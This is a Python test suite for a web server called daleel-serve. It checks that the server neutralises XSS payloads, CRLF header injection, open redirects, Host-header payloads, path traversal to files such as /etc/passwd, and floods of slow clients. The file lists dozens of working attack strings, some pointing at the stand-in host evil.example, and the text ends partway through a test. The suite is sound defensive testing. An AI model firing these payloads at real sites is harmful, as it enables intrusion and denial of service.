"""Attack inputs against the real daleel-serve: known XSS payloads in
queries, in article text and front matter, and in feedback comments shown
on the gap report, none of which may come back as markup; CR/LF in query
strings and redirect targets, which may never make a response header;
path traversal in every spelling under /static, /a/ and /api/articles/;
and slow clients (hundreds of sockets sending a byte a second) that must
not stop normal searches, with the per-address connection limit refusing
one address while another is still served.

The markup check parses each served page with html.parser, the way a
browser tokenizes it, so text that is escaped (and so shown, not run) is
told apart from tags and attributes.

SPDX-License-Identifier: GPL-2.0-or-later
"""
import html.parser
import json
import os
import re
import socket
import sys
import threading
import time
import unittest
import urllib.parse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import daleel_e2e as e2e  # noqa: E402

ADMIN = "attack-test-admin-token"

# Known XSS payloads: tags, event handlers, javascript: URLs, SVG/MathML,
# entity-encoded and mixed case, broken-up tags, NUL bytes, RTL override
# tricks, attribute breakouts and template syntax.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\u202e<script>alert(1)</script>\u202c",
    "\u202egnp.exe\u202c <img src=x onerror=alert(1)>",
    "\u2067<svg onload=alert(1)>\u2069",
    "\ufeff<script>alert(1)</script>",
    "{{t.site_name}}{{{q}}}{{>header}}",
    "javascript:alert(1)",
    "[x](javascript:alert(1)) ![y](javascript:alert(1)) <javascript:alert(1)>",
]
# NUL bytes: a query or form with one is invalid (400); an article with one
# must still render inert.
NUL_PAYLOADS = ["<scr\x00ipt>alert(1)</scr\x00ipt>", "<img src=x \x00onerror=alert(1)>",
                "java\x00script:alert(1)"]

# The only script a page may load; and the tags no page of ours ever has.
OUR_SCRIPT = "/static/app.js"
BAD_TAGS = {"script", "iframe", "object", "embed", "base", "frame", "frameset",
            "applet", "style", "math", "xmp", "plaintext", "noscript", "template"}
URL_ATTRS = {"href", "src", "action", "formaction", "data", "xlink:href", "poster",
             "background", "srcset", "ping", "content"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:text/html", "data:application",
               "data:image/svg")


class MarkupCheck(html.parser.HTMLParser):
    """Collects what in a page is markup an attacker could have put there."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.text = []
        self.in_svg = 0

    def handle_starttag(self, tag, attrs):
        self._tag(tag, attrs)
        if tag == "svg":
            self.in_svg += 1

    def handle_startendtag(self, tag, attrs):
        self._tag(tag, attrs)

    def handle_endtag(self, tag):
        if tag == "svg" and self.in_svg:
            self.in_svg -= 1

    def _tag(self, tag, attrs):
        a = dict(attrs)
        if tag == "script":
            if a.get("src") != OUR_SCRIPT:
                self.problems.append("a <script> that is not ours: %r" % (attrs,))
        elif tag in BAD_TAGS:
            self.problems.append("a <%s> tag: %r" % (tag, attrs))
        if tag == "meta" and "http-equiv" in a and a.get("http-equiv", "").lower() != "content-type":
            self.problems.append("<meta http-equiv>: %r" % (attrs,))
        if tag == "link" and (a.get("href") or "").startswith("//"):
            self.problems.append("<link> to another site: %r" % (attrs,))
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append("event handler %s=%r on <%s>" % (name, value, tag))
            if name == "style":
                self.problems.append("style attribute on <%s>: %r" % (tag, value))
            if name in URL_ATTRS and value:
                v = re.sub(r"[\x00-\x20\x7f]+", "", value).lower()
                if v.startswith(BAD_SCHEMES):
                    self.problems.append("%s=%r on <%s>" % (name, value, tag))
                if name in ("src", "action", "formaction", "data") and v.startswith("//"):
                    self.problems.append("%s=%r to another site on <%s>" % (name, value, tag))

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        # cmark leaves "raw HTML omitted"; a comment cannot close early in
        # a browser, but one that holds markup means input went in raw.
        if "<" in data:
            self.problems.append("markup inside a comment: %r" % data[:80])


def markup_problems(body):
    """Problems of a served HTML page: attacker markup parsed as markup,
    and raw '<script' beyond our one script tag."""
    text = body.decode("utf-8", "replace")
    p = MarkupCheck()
    p.feed(text)
    p.close()
    raw = len(re.findall(r"<script", text, re.I))
    ours = len(re.findall(r'<script src="/static/app\.js" defer></script>', text))
    if raw != ours:
        p.problems.append("raw '<script' %d times, our script tag %d times" % (raw, ours))
    return p.problems, "".join(p.text)


def q(s):
    return urllib.parse.quote(s, safe="")


def raw_request(port, request_bytes, source="127.0.0.1", timeout=10):
    """Send bytes as they are (no client-side normalization of the path);
    return (status, [header lines], body bytes)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    try:
        s.bind((source, 0))
        s.connect(("127.0.0.1", port))
        s.sendall(request_bytes)
        data = b""
        while True:
            try:
                chunk = s.recv(65536)
            except (ConnectionResetError, socket.timeout):
                break
            if not chunk:
                break
            data += chunk
    finally:
        s.close()
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split()[1]) if lines and lines[0].startswith("HTTP/") else None
    return status, lines[1:], body


def get_path(port, path, headers=()):
    extra = "".join("%s: %s\r\n" % h for h in headers)
    req = ("GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\n%sConnection: close\r\n\r\n"
           % (path, extra)).encode("latin-1")
    return raw_request(port, req)


def payload_article(i, p):
    """A fixture article with payload 'p' in its front matter and body.
    The payload goes into YAML as a double-quoted scalar, so any byte can
    be written (JSON escapes are valid YAML)."""
    yq = json.dumps(p)
    return ("---\n"
            "title: %s\n"
            "summary: %s\n"
            "tags: [xss, %s]\n"
            "category: %s\n"
            "lang: en\n"
            "updated: 2026-10-01\n"
            "---\n"
            "Attackword payload number %d: %s\n\n"
            "Inline code `%s` and emphasis *%s*.\n\n"
            "## Section %s\n\n"
            "[a link](%s) and ![an image](%s) and <%s>\n\n"
            "%s\n\n"
            "```html\n%s\n```\n\n"
            "> %s\n"
            % (yq, yq, yq, json.dumps("cat" + p[:20]), i, p, p.replace("`", ""), p, p,
               "javascript:alert(%d)" % i, "javascript:alert(%d)" % i,
               "javascript:alert(%d)" % i, p, p, p))


class Attacks(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        import tempfile
        import shutil
        cls.dir = tempfile.mkdtemp(prefix="daleel-attacks-")
        unittest.addModuleCleanup(shutil.rmtree, cls.dir, True)
        arts = os.path.join(cls.dir, "articles")
        e2e.write(os.path.join(arts, "en/help/normal.md"),
                  "---\ntitle: Normal article about refunds\nlang: en\n---\n"
                  "Refunds take five days. Attackword appears here too.\n\n"
                  "## Card refunds\n\nCards take longer.\n")
        e2e.write(os.path.join(arts, "ar/help/normal.md"),
                  "---\ntitle: مقالة عادية عن الاسترداد\nlang: ar\n---\n"
                  "يستغرق الاسترداد خمسة أيام.\n")
        cls.slugs = []
        for i, p in enumerate(PAYLOADS + NUL_PAYLOADS):
            e2e.write(os.path.join(arts, "en/xss/p%02d.md" % i), payload_article(i, p))
            cls.slugs.append("en/xss/p%02d" % i)
        # A payload in the slug and the file name itself.
        e2e.write(os.path.join(arts, "en/xss/slug.md"),
                  "---\ntitle: Slug attack\nslug: \"x/<svg onload=alert(1)>\"\nlang: en\n---\n"
                  "Attackword in an article whose slug is markup.\n")
        e2e.write(os.path.join(arts, 'en/xss/"><img src=x onerror=alert(1)>.md'),
                  "---\ntitle: File name attack\nlang: en\n---\nAttackword filename.\n")
        cls.index_dir = os.path.join(cls.dir, "index")
        r = e2e.index(arts, cls.index_dir, check=False)
        if r.returncode not in (0, 1):
            raise AssertionError("daleel-index failed (%d): %s%s"
                                 % (r.returncode, r.stdout, r.stderr))
        cls.server = e2e.Server(cls.index_dir, "--admin-token", ADMIN,
                                "--feedback-db", os.path.join(cls.dir, "fb.db"),
                                "--threads", "2", "--vote-limit", "1000", "--quiet")
        cls.server.start()
        # Stopped by ZZServerSurvived, which checks how it ended; this is
        # for runs that select only some tests.
        unittest.addModuleCleanup(cls.server.stop)

    # ---- helpers ----

    def assert_inert(self, path, body, status=None, ctype="text/html"):
        problems, _ = markup_problems(body)
        self.assertEqual(problems, [], "attacker markup in %s (status %s)" % (path, status))

    def get(self, path, **kw):
        return self.server.get(path, **kw)

    # ---- queries ----

    def test_query_payloads_on_the_results_page(self):
        for p in PAYLOADS:
            for extra in ("", "&lang=ar", "&page=2", "&category=" + q(p)):
                path = "/search?q=" + q(p) + extra
                with self.subTest(path=path):
                    st, h, body = self.get(path)
                    self.assertIn(st, (200, 400, 414), path)
                    self.assertTrue(h.get("content-type", "").startswith("text/html"), h)
                    self.assert_inert(path, body, st)
                    if st == 200 and not extra:
                        # Inert but shown: the reader sees what they typed.
                        _, text = markup_problems(body)
                        self.assertIn(p.strip().strip("\u202e\u202c\u2067\u2069\ufeff")[:12], text)

    def test_query_payloads_in_other_parameters(self):
        for p in PAYLOADS[:20]:
            for path in ("/search?q=refund&lang=" + q(p), "/search?q=refund&page=" + q(p),
                         "/?lang=" + q(p), "/a/en/help/normal?s=" + q(p) + "&r=" + q(p),
                         "/a/en/help/normal?lang=" + q(p), "/gaps/login?next=" + q(p),
                         "/opensearch.xml?lang=" + q(p), "/a/" + q(p), "/" + q(p),
                         "/search?q=refund&audience=" + q(p)):
                with self.subTest(path=path):
                    st, h, body = self.get(path)
                    self.assertLess(st, 500, path)
                    if h.get("content-type", "").startswith("text/html"):
                        self.assert_inert(path, body, st)
                    if "location" in h:
                        loc = h["location"].lower()
                        self.assertFalse(loc.startswith(("javascript:", "//", "http")), h["location"])

    def test_query_payloads_in_the_json_api(self):
        for p in PAYLOADS:
            for path in ("/api/search?q=" + q(p), "/api/suggest?q=" + q(p),
                         "/api/search?q=attackword&category=" + q(p), "/api/articles/" + q(p)):
                with self.subTest(path=path):
                    st, h, body = self.get(path)
                    self.assertLess(st, 500, path)
                    self.assertTrue(h.get("content-type", "").startswith("application/json"),
                                    "%s: %s" % (path, h.get("content-type")))
                    self.assertEqual(h.get("x-content-type-options"), "nosniff")
                    json.loads(body)  # always a JSON document, never HTML

    def test_nul_and_invalid_bytes_in_queries(self):
        for p in NUL_PAYLOADS + ["\udcff"]:
            raw = p.encode("utf-8", "surrogateescape")
            for base in ("/search?q=", "/api/search?q=", "/api/suggest?q="):
                path = base + urllib.parse.quote_from_bytes(raw, safe="")
                with self.subTest(path=path):
                    st, h, body = self.get(path)
                    self.assertEqual(st, 400, path)
                    if h.get("content-type", "").startswith("text/html"):
                        self.assert_inert(path, body, st)

    # ---- article text and front matter ----

    def test_payload_articles_render_inert(self):
        pages = ["/", "/?lang=en", "/search?q=attackword", "/search?q=attackword&page=2",
                 "/search?q=attackword&page=3", "/search?q=xss", "/search?q=alert",
                 "/search?q=script", "/search?q=onerror", "/search?q=javascript",
                 "/search?q=svg+onload", "/search?q=cat"]
        for slug in self.slugs:
            pages.append("/a/" + slug)
            pages.append("/search?q=attackword&category=" + q("cat"))
        served = 0
        for path in pages:
            with self.subTest(path=path):
                st, h, body = self.get(path)
                self.assertIn(st, (200, 404), path)
                self.assert_inert(path, body, st)
                served += st == 200
        self.assertGreater(served, len(self.slugs), "the payload articles were indexed and served")
        # The search finds them: payload text is indexed as words.
        st, _, body = self.get("/search?q=attackword")
        self.assertEqual(st, 200)
        self.assertIn(b"/a/en/xss/p", body)

    def test_payload_article_shows_its_title_as_text(self):
        st, _, body = self.get("/a/" + self.slugs[0])
        self.assertEqual(st, 200)
        problems, text = markup_problems(body)
        self.assertEqual(problems, [])
        self.assertIn("<script>alert(1)</script>", text, "the title is shown, escaped")
        self.assertIn(b"&lt;script&gt;alert(1)&lt;/script&gt;", body)

    def test_payload_articles_in_the_json_api(self):
        for slug in self.slugs[:len(PAYLOADS)]:
            with self.subTest(slug=slug):
                st, h, body = self.get("/api/articles/" + slug)
                self.assertEqual(st, 200, slug)
                self.assertTrue(h["content-type"].startswith("application/json"))
                doc = json.loads(body)
                html_fields = [v for k, v in _walk(doc) if "html" in k or "marked" in k]
                for v in html_fields:
                    problems, _ = markup_problems(v.encode())
                    self.assertEqual(problems, [], "%s: %r" % (slug, v[:200]))
        st, _, body = self.get("/api/search?q=attackword&limit=50")
        self.assertEqual(st, 200)
        doc = json.loads(body)
        self.assertGreater(len(doc["results"]), 10)
        for k, v in _walk(doc):
            if "html" in k or "marked" in k:
                problems, _ = markup_problems(v.encode())
                self.assertEqual(problems, [], "%s: %r" % (k, v[:200]))
            if k.endswith("url") and isinstance(v, str):
                self.assertTrue(v.startswith(("http://127.0.0.1", "/")), "%s=%r" % (k, v))

    def test_slug_and_file_name_payloads(self):
        for path in ("/search?q=slug+attack", "/search?q=file+name+attack",
                     "/search?q=attackword+filename", "/api/search?q=slug+attack"):
            with self.subTest(path=path):
                st, h, body = self.get(path)
                self.assertEqual(st, 200)
                if path.startswith("/search"):
                    self.assert_inert(path, body, st)
                    # Follow every result link: each opens, none is markup.
                    for href in re.findall(rb'<a href="(/a/[^"]+)"', body):
                        link = href.decode().replace("&amp;", "&").split("#")[0]
                        st2, _, body2 = self.get(link)
                        self.assertIn(st2, (200, 302), link)
                        self.assert_inert(link, body2, st2)

    # ---- feedback comments on the gap report ----

    def vote(self, slug, comment, reason="other"):
        st, _, body = self.get("/a/" + slug)
        self.assertEqual(st, 200, slug)
        m = re.search(rb'name="token" value="([^"]+)"', body)
        self.assertIsNotNone(m, "a feedback token on " + slug)
        return self.server.post("/feedback", {
            "slug": slug, "token": m.group(1).decode(), "vote": "no", "reason": reason,
            "comment": comment, "website": ""})

    def test_comment_payloads_on_the_gap_report(self):
        # One article per payload: a visitor's later vote on the same
        # article replaces the earlier one, so each comment needs its own.
        stored = 0
        for i, p in enumerate(PAYLOADS):
            st, h, body = self.vote(self.slugs[i], p)
            with self.subTest(payload=p):
                self.assertIn(st, (200, 303, 429), "vote with payload")
                if h.get("content-type", "").startswith("text/html"):
                    self.assert_inert("/feedback", body, st)
                stored += st in (200, 303)
            if st == 429:
                time.sleep(int(h.get("retry-after", "1")))
                st, h, body = self.vote(self.slugs[i], p)
                stored += st in (200, 303)
        # A "didn't find it" report with a payload, and a payload query with
        # no results, both shown on the report.
        st, _, body = self.get("/search?q=" + q("<svg onload=alert(1)> zzqxj"))
        m = re.search(rb'name="token" value="([^"]+)"', body)
        if m:
            self.server.post("/gap", {"q": "<script>alert(1)</script>", "lang": "en",
                                      "token": m.group(1).decode(),
                                      "text": "<img src=x onerror=alert(1)>", "website": ""})
        self.assertGreater(stored, len(PAYLOADS) // 2, "most payload votes were stored")
        auth = {"Authorization": "Bearer " + ADMIN}
        for path in ("/gaps", "/gaps?days=30", "/gaps?lang=en", "/gaps?lang=" + q(PAYLOADS[0]),
                     "/gaps?days=" + q(PAYLOADS[4])):
            with self.subTest(path=path):
                st, h, body = self.get(path, headers=auth)
                self.assertIn(st, (200, 400), path)
                self.assert_inert(path, body, st)
        st, _, body = self.get("/gaps?days=30", headers=auth)
        _, text = markup_problems(body)
        self.assertIn("<img src=x onerror=alert(1)>", text, "the comments are shown as text")
        # CSV and JSON carry the text as data, with their own content types.
        st, h, body = self.get("/gaps.json?days=30", headers=auth)
        self.assertEqual(st, 200)
        self.assertTrue(h["content-type"].startswith("application/json"))
        self.assertIn("<img src=x onerror=alert(1)>", body.decode())
        st, h, body = self.get("/gaps.csv?days=30", headers=auth)
        self.assertEqual(st, 200)
        self.assertTrue(h["content-type"].startswith("text/csv"), h["content-type"])
        self.assertEqual(h.get("x-content-type-options"), "nosniff")

    # ---- header injection ----

    CRLF = ["%0d%0aSet-Cookie:%20injected=1", "%0aSet-Cookie:%20injected=1",
            "%0dSet-Cookie:%20injected=1", "%0d%0a%0d%0a<script>alert(1)</script>",
            "%E5%98%8A%E5%98%8DSet-Cookie:%20injected=1", "%c4%8d%c4%8aSet-Cookie:%20injected=1",
            "%0d%0aX-Injected:%201", "%250d%250aX-Injected:%201", "\\r\\nX-Injected: 1"]

    def assert_no_injected_header(self, path, st, headers, body):
        """No header line the attacker wrote, no control character or raw
        byte past ASCII in a header, and an HTML body free of markup."""
        for line in headers:
            low = line.lower()
            self.assertFalse(low.startswith(("x-injected", "injected")) or
                             re.match(r"set-cookie:\s*injected=", low),
                             "%s: injected header %r" % (path, line))
            self.assertTrue(all(0x20 <= ord(c) < 0x7f or c == "\t" for c in line),
                            "%s: header with control or non-ASCII bytes %r" % (path, line))
        ctype = [h for h in headers if h.lower().startswith("content-type:")]
        if ctype and "text/html" in ctype[0]:
            problems, _ = markup_problems(body)
            self.assertEqual(problems, [], path)
        if st in (301, 302, 303, 307, 308):
            locs = [h for h in headers if h.lower().startswith("location:")]
            self.assertEqual(len(locs), 1, "%s: a redirect has one Location: %r" % (path, headers))

    def test_crlf_in_query_strings_and_paths(self):
        port = self.server.port
        for inj in self.CRLF:
            for path in ("/search?q=a" + inj, "/search?q=refund&lang=en" + inj,
                         "/api/search?q=a" + inj, "/api/suggest?q=a" + inj,
                         "/a/en/help/normal" + inj, "/a/en/help/normal?s=1" + inj + "&r=1",
                         "/a/en/help/normal?s=1&r=1" + inj, "/static/style.css" + inj,
                         "/?lang=en" + inj, "/search?q=refund&token=" + inj,
                         "/gaps/login?next=/gaps?" + inj, "/opensearch.xml?lang=" + inj):
                with self.subTest(path=path):
                    st, headers, body = get_path(port, path.replace(" ", "%20"))
                    self.assertIsNotNone(st, path)
                    self.assertLess(st, 500, path)
                    self.assert_no_injected_header(path, st, headers, body)

    def test_crlf_in_redirect_targets(self):
        """Every redirect the server makes, fed CR/LF where it builds the
        Location: the click redirect (?s=&r=), the ?token= strip, and the
        login form's 'next'."""
        port = self.server.port
        for inj in self.CRLF:
            cases = [
                "/a/en/help/normal%s?s=12&r=1" % inj,
                "/a/en/help/normal?s=12&r=1&x=%s" % inj,
                "/search?q=x%s&token=abc" % inj,
                "/search?token=abc&q=" + inj,
            ]
            for path in cases:
                with self.subTest(path=path):
                    st, headers, body = get_path(port, path.replace(" ", "%20"))
                    self.assertLess(st, 500, path)
                    self.assert_no_injected_header(path, st, headers, body)
                    for line in headers:
                        if line.lower().startswith("location:"):
                            loc = line.split(":", 1)[1].strip()
                            self.assertTrue(loc.startswith(("/", "http://127.0.0.1")) and
                                            not loc.startswith("//"),
                                            "%s: Location %r" % (path, loc))
            # The login form posts 'next' in its body.
            st, headers, rbody = self.login(port, "/gaps?x=" + inj.replace(" ", "%20"), raw=True)
            with self.subTest(login_next=inj):
                self.assertIn(st, (303, 400), "login with a CR/LF next")
                self.assert_no_injected_header("/gaps/login", st, headers, rbody)
                if st == 303:
                    loc = [h for h in headers if h.lower().startswith("location:")][0]
                    self.assertTrue(loc.split(":", 1)[1].strip().startswith("/gaps"), loc)
        # Open redirects: 'next' may only lead to the gap report.
        for nxt in ("//evil.example/", "https://evil.example/", "/gaps//evil.example",
                    "/\\evil.example", "javascript:alert(1)", "/gaps\\@evil.example",
                    "/gaps/../../evil", "/gaps.evil.example", "/gaps@evil.example",
                    " //evil.example", "\t//evil.example"):
            st, headers, _ = self.login(port, urllib.parse.quote(nxt, safe=""), raw=True)
            with self.subTest(next=nxt):
                self.assertEqual(st, 303)
                loc = [h for h in headers if h.lower().startswith("location:")]
                self.assertEqual(len(loc), 1, headers)
                loc = loc[0].split(":", 1)[1].strip()
                self.assertTrue(loc.startswith("/gaps") and not loc.startswith("//"), loc)
                self.assertNotIn("evil.example/", loc.replace("%2F", "/"))

    _login_source = [10]

    def login(self, port, next_encoded, raw=True):
        """POST /gaps/login with the admin token and 'next' (already
        percent-encoded), each time from another 127.0.0.x address: logins
        are rate-limited per address."""
        self._login_source[0] += 1
        source = "127.0.0.%d" % (self._login_source[0] % 250 + 2)
        body = "token=%s&next=%s" % (ADMIN, next_encoded)
        req = ("POST /gaps/login HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
               "Content-Type: application/x-www-form-urlencoded\r\n"
               "Content-Length: %d\r\n\r\n%s" % (len(body), body)).encode("latin-1")
        return raw_request(port, req, source=source)

    def test_raw_crlf_in_the_request_line(self):
        """CR/LF sent raw (not percent-encoded) splits the request line; the
        server must answer 400 or close, never echo a header."""
        port = self.server.port
        for req in (b"GET /search?q=a\r\nX-Injected: 1 HTTP/1.1\r\nHost: x\r\n\r\n",
                    b"GET /search?q=a\rX-Injected: 1 HTTP/1.1\r\nHost: x\r\n\r\n",
                    b"GET /search?q=a\nSet-Cookie: injected=1 HTTP/1.1\r\nHost: x\r\n\r\n",
                    b"GET /search?q=a HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 1\r\n\tinjected=1\r\n\r\n"):
            with self.subTest(req=req):
                st, headers, body = raw_request(port, req)
                self.assertTrue(st is None or st in (200, 400, 505), (st, headers))
                self.assert_no_injected_header(req, st, headers, body)
        st, _, _ = self.get("/search?q=refund")
        self.assertEqual(st, 200, "the server still answers")

    def test_host_header_payloads(self):
        """Without --base-url the absolute URLs come from Host: a Host that
        is not a host name must never reach a page or the JSON."""
        port = self.server.port
        for host in ('a"><script>alert(1)</script>', "a'><svg onload=alert(1)>",
                     "javascript:alert(1)//", "evil.example/<img src=x onerror=alert(1)>",
                     "a b", "a@evil.example", "%0d%0aX-Injected: 1", "\u202eevil"):
            for path in ("/a/en/help/normal", "/search?q=refund", "/opensearch.xml",
                         "/api/search?q=refund&limit=1", "/api/articles/en/help/normal"):
                with self.subTest(host=host, path=path):
                    req = ("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"
                           % (path, host)).encode("utf-8")
                    st, headers, body = raw_request(port, req)
                    self.assertIn(st, (200, 400), path)
                    self.assert_no_injected_header(path, st, headers, body)
                    text = body.decode("utf-8", "replace")
                    for u in re.findall(r'(?:href="|"url":"|template=")(https?:[^"]*)"', text):
                        self.assertRegex(u, r"^https?://[A-Za-z0-9.:\[\]-]+(/|$)", "%s: %r" % (host, u))

    # ---- path traversal ----

    TRAVERSALS = [
        "/static/../server/main.c", "/static/../../etc/passwd", "/static/../meson.build",
        "/static/%2e%2e/meson.build", "/static/%2e%2e%2fmeson.build", "/static/%2E%2E%2F%2E%2E%2Fetc%2Fpasswd",
        "/static/.%2e/meson.build", "/static/%2e./meson.build", "/static/..%2fmeson.build",
        "/static/%252e%252e/meson.build", "/static/%252e%252e%252fmeson.build",
        "/static/..%5cmeson.build", "/static/..\\meson.build", "/static/%5c..%5c..%5cetc%5cpasswd",
        "/static//etc/passwd", "/static/%2fetc%2fpasswd", "//etc/passwd", "///etc/passwd",
        "/static/%c0%ae%c0%ae/meson.build", "/static/%c0%ae%c0%ae%c0%afmeson.build",
        "/static/%e0%80%ae%e0%80%ae/meson.build", "/static/%c1%9c..%c1%9cmeson.build",
        "/static/..%00/meson.build", "/static/style.css%00.txt", "/static/%00",
        "/static/..;/meson.build", "/static/./../meson.build", "/static/style.css/../../meson.build",
        "/static/", "/static", "/static/.", "/static/..", "/static/.hidden",
        "/static/" + "../" * 20 + "etc/passwd", "/static/....//....//etc/passwd",
        "/a/../../etc/passwd", "/a/%2e%2e/%2e%2e/etc/passwd", "/a/..%2f..%2fetc%2fpasswd",
        "/a/%252e%252e%252fetc%252fpasswd", "/a/..%5c..%5cetc%5cpasswd", "/a//etc/passwd",
        "/a/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "/a/en/../../../etc/passwd",
        "/a/en/help/normal/../../../../meson.build", "/a/en/%2e%2e/%2e%2e/meson.build",
        "/api/articles/../../etc/passwd", "/api/articles/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/api/articles/..%5cmeson.build", "/api/articles//etc/passwd",
        "/templates/home.html", "/static/../templates/home.html", "/static/%2e%2e/templates/i18n/en.json",
        "/static/../index/", "/../meson.build", "/%2e%2e/meson.build",
    ]
    # What a file from outside static/ would contain.
    LEAKS = [b"root:x:0:0", b"project('daleel'", b"#include", b"{{>header}}", b"SPDX-License",
             b"\"site_name\""]

    def test_path_traversal(self):
        port = self.server.port
        for path in self.TRAVERSALS:
            for method in ("GET", "HEAD"):
                with self.subTest(path=path, method=method):
                    req = ("%s %s HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
                           % (method, path)).encode("latin-1")
                    st, headers, body = raw_request(port, req)
                    self.assertIn(st, (400, 404), "%s %s" % (method, path))
                    for leak in self.LEAKS:
                        self.assertNotIn(leak, body, "%s leaked a file" % path)
        # Our own files are still served.
        st, h, body = self.get("/static/style.css")
        self.assertEqual(st, 200)
        self.assertTrue(h["content-type"].startswith("text/css"))
        st, _, _ = self.get("/static/app.js")
        self.assertEqual(st, 200)

    # ---- slow clients ----

    def slow_sockets(self, n, port, source="127.0.0.1"):
        socks = []
        for _ in range(n):
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setblocking(True)
            s.settimeout(2)
            try:
                s.bind((source, 0))
                s.connect(("127.0.0.1", port))
                socks.append(s)
            except OSError:
                s.close()
        return socks

    @staticmethod
    def drip(socks, seconds, stop):
        """Send one byte a second on each socket for 'seconds' seconds."""
        line = b"GET /search?q=slow-loris-attack-that-never-ends HTTP/1.1\r\nHost: x\r\n"
        alive = list(socks)
        for i in range(seconds):
            if stop.is_set():
                break
            t0 = time.monotonic()
            still = []
            for s in alive:
                try:
                    s.send(line[i % len(line):i % len(line) + 1])
                    still.append(s)
                except OSError:
                    pass
            alive = still
            time.sleep(max(0, 1 - (time.monotonic() - t0)))
        return len(alive)

    def timed_searches(self, port, seconds, source="127.0.0.1"):
        """Normal searches from another client while the slow ones drip;
        returns the latencies (None for a failed request)."""
        lat = []
        end = time.monotonic() + seconds
        qs = ["refund", "card", "%D8%A7%D9%84%D8%A7%D8%B3%D8%AA%D8%B1%D8%AF%D8%A7%D8%AF", "attackword"]
        i = 0
        while time.monotonic() < end:
            t0 = time.monotonic()
            req = ("GET /search?q=%s HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
                   % qs[i % len(qs)]).encode()
            try:
                st, _, body = raw_request(port, req, source=source, timeout=5)
                lat.append(time.monotonic() - t0 if st == 200 and b"</html>" in body[-64:] else None)
            except OSError:
                lat.append(None)
            i += 1
            time.sleep(0.2)
        return lat

    def test_slow_clients_do_not_stop_searches(self):
        """300 connections that send a byte a second for 10 s, while another
        client searches: every search answers, each under 2 s."""
        d = e2e.tmpdir(self)
        srv = e2e.Server(self.index_dir, "--max-conn-per-ip", "1000", "--threads", "2", "--quiet",
                         "--feedback-db", os.path.join(d, "fb.db"))
        srv.start()
        self.addCleanup(srv.stop)
        socks = self.slow_sockets(300, srv.port)
        self.addCleanup(lambda: [s.close() for s in socks])
        self.assertGreaterEqual(len(socks), 290, "the slow sockets connected")
        stop = threading.Event()
        result = {}
        t = threading.Thread(target=lambda: result.update(alive=self.drip(socks, 10, stop)))
        t.start()
        try:
            lat = self.timed_searches(srv.port, 9)
        finally:
            stop.set()
            t.join()
        ok = [x for x in lat if x is not None]
        self.assertGreater(len(lat), 10, "searches were made during the attack")
        self.assertEqual(len(ok), len(lat), "every search answered: %r" % lat)
        self.assertLess(max(ok), 2.0, "slowest search %.3f s" % max(ok))
        # The slow connections were kept (not a side effect of refusing them).
        self.assertGreaterEqual(result.get("alive", 0), 250, "slow sockets still open after 10 s")
        ok.sort()
        print("\n  slow clients: %d sockets open, %d searches, median %.1f ms, max %.1f ms"
              % (result["alive"], len(ok), 1000 * ok[len(ok) // 2], 1000 * ok[-1]))
        for s in socks:
            s.close()
        st, _, _ = srv.get("/search?q=refund")
        self.assertEqual(st, 200, "the server answers after the attack")
        self.assertEqual(srv.stop(), 0, "clean exit after the slow clients:\n" + srv.output()[-3000:])

    @staticmethod
    def open_count(socks):
        """How many of 'socks' the server still holds open (it closes the
        ones over the limit right after accepting them)."""
        n = 0
        for s in socks:
            try:
                s.setblocking(False)
                n += s.recv(1, socket.MSG_PEEK) != b""
            except BlockingIOError:
                n += 1
            except OSError:
                pass
            finally:
                s.setblocking(True)
        return n

    def test_per_address_limit_refuses_one_address_and_serves_another(self):
        d = e2e.tmpdir(self)
        limit = 20
        srv = e2e.Server(self.index_dir, "--max-conn-per-ip", str(limit), "--threads", "2", "--quiet",
                         "--feedback-db", os.path.join(d, "fb.db"))
        srv.start()
